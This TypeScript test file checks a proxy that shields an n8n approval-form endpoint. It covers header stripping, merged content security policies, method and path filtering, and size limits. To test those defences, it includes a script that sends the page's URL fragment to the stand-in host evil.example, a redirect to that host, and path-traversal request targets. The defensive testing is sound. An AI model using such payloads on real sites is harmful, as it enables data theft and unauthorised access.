import assert from 'node:assert/strict';
import { createServer, request as httpRequest, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, beforeEach, test } from 'node:test';
import express from 'express';
import { formPolicy } from '../../../gateway/approvals/form-policy.ts';
import { waitingProxy } from '../../../gateway/approvals/index.ts';
import { createLogger } from '../../../gateway/config/index.ts';
import { fakeN8n, type FakeN8n } from './fake-n8n.ts';

let n8n: FakeN8n;
let server: Server;
let base: string;
before(async () => {
  n8n = await fakeN8n();
  const app = express();
  app.use('/webhook-waiting', waitingProxy({ n8nUrl: n8n.url, log: createLogger('silent') }));
  server = app.listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
after(async () => {
  server.closeAllConnections();
  server.close();
  await n8n.stop();
});
const form = {
  status: 200,
  body: '<p>form</p>',
  headers: {
    'content-type': 'text/html',
    'content-security-policy': "default-src 'none'; script-src 'nonce-x'; sandbox allow-forms allow-scripts",
    'set-cookie': 'n8n=1',
    'x-powered-by': 'n8n',
  },
};
const path = '/webhook-waiting/12/abc-1?approval=dec_1&signature=feed';
beforeEach(() => {
  n8n.calls.length = 0;
  n8n.answers.splice(0, n8n.answers.length, form);
});

/** Sends a request with exactly this target, which fetch would tidy. */
function raw(method: string, target: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const call = httpRequest(base, { method, path: target }, (response) => {
      response.resume();
      resolve(response.statusCode ?? 0);
    });
    call.on('error', reject).end();
  });
}

test('a GET passes with its query untouched, and only its page, type and policy come back', async () => {
  const response = await fetch(`${base}${path}`, {
    headers: {
      cookie: 'gatehouse=secret',
      authorization: 'Bearer x',
      'webhook-signature': 'v1,x',
      'x-forwarded-for': '1.1.1.1',
    },
  });
  assert.equal(await response.text(), '<p>form</p>');
  // Two policies: a browser allows only what both allow.
  assert.equal(
    response.headers.get('content-security-policy'),
    `${form.headers['content-security-policy']}, ${formPolicy}`,
  );
  assert.equal(response.headers.get('cache-control'), 'no-store');
  assert.equal(response.headers.get('referrer-policy'), 'no-referrer');
  assert.equal(response.headers.get('set-cookie'), null);
  assert.equal(n8n.calls[0]?.url, path);
  for (const name of ['cookie', 'authorization', 'webhook-signature', 'x-forwarded-for'])
    assert.equal(n8n.calls[0]?.headers[name], undefined, name);
});

test('a POST passes its form', async () => {
  await fetch(`${base}${path}`, {
    method: 'POST',
    body: new URLSearchParams({ token: 't', verdict: 'approve' }),
  });
  assert.equal(n8n.calls[0]?.method, 'POST');
  assert.equal(n8n.calls[0]?.body, 'token=t&verdict=approve');
  assert.match(n8n.calls[0]?.headers['content-type'] ?? '', /urlencoded/);
});

test('a page of whoever took n8n over gets no origin, no script and no address of its own', async () => {
  // The public origin is also that of the chat and the approvals page: a script here could vote for its visitor.
  const script = '<script>fetch("//evil.example/" + location.hash)</script>';
  for (const policy of [undefined, "default-src * 'unsafe-inline'", '']) {
    n8n.answers.splice(0, 1, {
      status: 200,
      body: script,
      headers: {
        'content-type': 'text/html',
        ...(policy === undefined ? {} : { 'content-security-policy': policy }),
      },
    });
    const response = await fetch(`${base}${path}`);
    const policies = (response.headers.get('content-security-policy') ?? '').split(', ');
    assert.equal(policies.at(-1), formPolicy);
    assert.match(formPolicy, /^default-src 'none'; script-src 'sha256-[\w+/=]{44}'; /);
    assert.match(formPolicy, /; sandbox allow-forms allow-scripts$/);
    assert.match(formPolicy, /form-action 'self'; base-uri 'none'; frame-ancestors 'none'/);
  }
});

test('an answer without an end is cut off, not collected', async (t) => {
  let sent = 0;
  const flood = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    const more = (): void => {
      while (sent < 64 * 1024 * 1024 && !response.destroyed) {
        sent += 65_536;
        if (!response.write(Buffer.alloc(65_536, 97))) {
          response.once('drain', more);
          return;
        }
      }
      response.end();
    };
    more();
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => flood.once('listening', resolve));
  const app = express();
  const n8nUrl = `http://127.0.0.1:${(flood.address() as AddressInfo).port}`;
  app.use('/webhook-waiting', waitingProxy({ n8nUrl, log: createLogger('silent') }));
  const door = app.listen(0, '127.0.0.1');
  await new Promise((resolve) => door.once('listening', resolve));
  t.after(() => {
    for (const listener of [door, flood]) {
      listener.closeAllConnections();
      listener.close();
    }
  });
  const response = await fetch(`http://127.0.0.1:${(door.address() as AddressInfo).port}${path}`);
  assert.equal(response.status, 502);
  assert.ok(sent < 16 * 1024 * 1024, `took ${sent} bytes of it`);
});

test('HEAD and every other method are refused and never reach n8n', async () => {
  for (const method of ['HEAD', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'])
    assert.equal(await raw(method, path), 405, method);
  assert.equal(n8n.calls.length, 0);
});

test('nothing but an execution and a node is forwarded', async () => {
  for (const target of [
    '/webhook-waiting/12',
    '/webhook-waiting/',
    '/webhook-waiting/12/a/b',
    '/webhook-waiting/12/../../rest/login',
    '/webhook-waiting/12/%2e%2e%2frest',
    '/webhook-waiting/12/abc/',
    '/webhook-waiting/1;x/abc',
    `/webhook-waiting/12/abc?${'a'.repeat(3000)}`,
    `http://127.0.0.1:5678${path}`,
  ]) {
    assert.equal(await raw('GET', target), 404, target);
  }
  assert.equal(n8n.calls.length, 0);
});

test('a body over 64 kB is refused, said or not said in advance', async () => {
  const big = 'a'.repeat(70_000);
  assert.equal((await fetch(`${base}${path}`, { method: 'POST', body: big })).status, 413);
  const stream = new ReadableStream({
    start(controller) {
      controller.enqueue(Buffer.from(big));
      controller.close();
    },
  });
  assert.equal((await fetch(`${base}${path}`, { method: 'POST', body: stream, duplex: 'half' })).status, 413);
  assert.equal(n8n.calls.length, 0);
});

for (const [answer, status, words] of [
  [{ status: 401, body: 'invalid' }, 401, /link does not work/],
  [{ status: 404, body: 'none' }, 404, /no such request/],
  [{ status: 409, body: 'The execution "1" is running already.' }, 409, /One moment/],
  [{ status: 409, body: 'has finished with error' }, 410, /is closed/],
  [{ status: 500, body: 'Error\n at secret stack' }, 502, /could not be shown/],
  [{ status: 302, body: '', headers: { location: 'https://evil.example' } }, 404, /no such request/],
  [
    {
      status: 200,
      body: "<html lang='en'><head><link href='https://fonts.googleapis.com'><title>No action required</title></head></html>",
    },
    410,
    /is closed/,
  ],
] as const) {
  test(`n8n's own ${answer.status} becomes our page: ${words.source}`, async () => {
    n8n.answers.splice(0, 1, answer);
    const response = await fetch(`${base}${path}`, { redirect: 'manual' });
    const text = await response.text();
    assert.equal(response.status, status);
    assert.match(text, words);
    assert.doesNotMatch(text, /secret stack|googleapis|evil/);
    assert.match(response.headers.get('content-security-policy') ?? '', /default-src 'none'/);
  });
}

test('a card whose text says "No action required" is shown all the same', async () => {
  n8n.answers.splice(0, 1, { ...form, body: '<title>Approve</title><p>to No action required</p>' });
  assert.equal((await fetch(`${base}${path}`)).status, 200);
});

test('n8n being away is said, with when to come back', async () => {
  const app = express();
  app.use('/webhook-waiting', waitingProxy({ n8nUrl: 'http://127.0.0.1:9', log: createLogger('silent') }));
  const lonely = app.listen(0, '127.0.0.1');
  await new Promise((resolve) => lonely.once('listening', resolve));
  const response = await fetch(`http://127.0.0.1:${(lonely.address() as AddressInfo).port}${path}`);
  assert.equal(response.status, 503);
  assert.equal(response.headers.get('retry-after'), '10');
  lonely.closeAllConnections();
  lonely.close();
});
